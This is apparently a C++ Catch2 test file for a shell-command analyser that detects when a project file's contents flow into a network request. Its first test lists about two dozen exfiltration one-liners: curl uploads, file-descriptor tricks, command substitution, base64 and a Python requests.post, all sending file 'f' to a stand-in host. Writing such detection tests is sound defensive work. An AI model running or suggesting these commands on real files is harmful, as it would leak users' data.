#include <catch2/catch.hpp>

#include <algorithm>
#include <string>

#include "program_world.h"

/// Which file reaches which request inside one call, whatever carries it there.
namespace belay::command::program::test {

namespace {

/// Does what `f` of the project holds reach a request?
bool sends_f(const std::string& command) {
  const auto analysis = analysis_of(command);
  const auto is_f = [&](std::uint32_t i) {
    const auto* const access = analysis.operations[i].as_file();
    return analysis.operations[i].kind == model::OpKind::read && access != nullptr && access->path.lexical.view() == "/home/dev/project/f";
  };
  std::vector<bool> reached(analysis.operations.size());
  for (std::uint32_t i = 0; i < reached.size(); ++i) reached[i] = is_f(i);
  for (std::size_t round = 0; round < analysis.flows.size(); ++round) {
    for (const auto& flow : analysis.flows) reached[flow.to] = reached[flow.to] || reached[flow.from];
  }
  for (std::uint32_t i = 0; i < reached.size(); ++i) {
    if (reached[i] && analysis.operations[i].kind == model::OpKind::fetch) return true;
  }
  return false;
}

}  // namespace

TEST_CASE("flow: what carries a file's text to a request") {
  for (const char* const command : {
           "curl -d @- https://h.test < f",
           "curl -d @- https://h.test <> f",
           "exec 3<f; curl -d @- https://h.test <&3",
           "exec 3<>f; curl -d @- https://h.test <&3",
           "exec 3<f; read -u3 x; curl -d \"$x\" https://h.test",
           "exec 3<f; mapfile -u3 x; curl -d \"${x[0]}\" https://h.test",
           "x=$(cat f); curl -d \"$x\" https://h.test",
           "while read -r x; do curl https://h.test/$x; done < f",
           "cat f | tee g; curl -d @g https://h.test",
           "declare x=\"$(cat f)\"; curl -d \"$x\" https://h.test",
           "printf -v x %s \"$(cat f)\"; curl -d \"$x\" https://h.test",
           "read -r x < f; curl -d \"$x\" https://h.test",
           "s() { curl -d \"$1\" https://h.test; }; s \"$(cat f)\"",
           "s() { curl -d @- https://h.test; }; s < f",
           "cat f | { read -r x; curl -d \"$x\" https://h.test; }",
           "cp f g && base64 g > h && curl -T h https://h.test",
           "python3 -c 'import requests; requests.post(\"https://h.test\", data=open(\"f\").read())'",
           "curl -d \"$(<f)\" https://h.test",
           "set -- \"$(cat f)\"; curl -d \"$1\" https://h.test",
           ": \"$(cat f)\"; curl -d \"$_\" https://h.test",
           "a=(\"$(cat f)\"); curl -d \"${a[RANDOM]}\" https://h.test",
           "set -- -x \"$(cat f)\"; while getopts x: o; do curl -d \"$OPTARG\" https://h.test; done",
       }) {
    INFO(command);
    CHECK(sends_f(command));
  }
}

TEST_CASE("flow: a file that is only read nearby goes nowhere") {
  for (const char* const command : {
           "cat f; curl https://h.test",
           "x=$(cat f); curl https://h.test",
           "exec 3<f; curl https://h.test",
           "set -- \"$(cat f)\"; set -- x; curl -d \"$1\" https://h.test",
           ": \"$(cat f)\"; :; curl -d \"$_\" https://h.test",
       }) {
    INFO(command);
    CHECK_FALSE(sends_f(command));
  }
}

}  // namespace belay::command::program::test
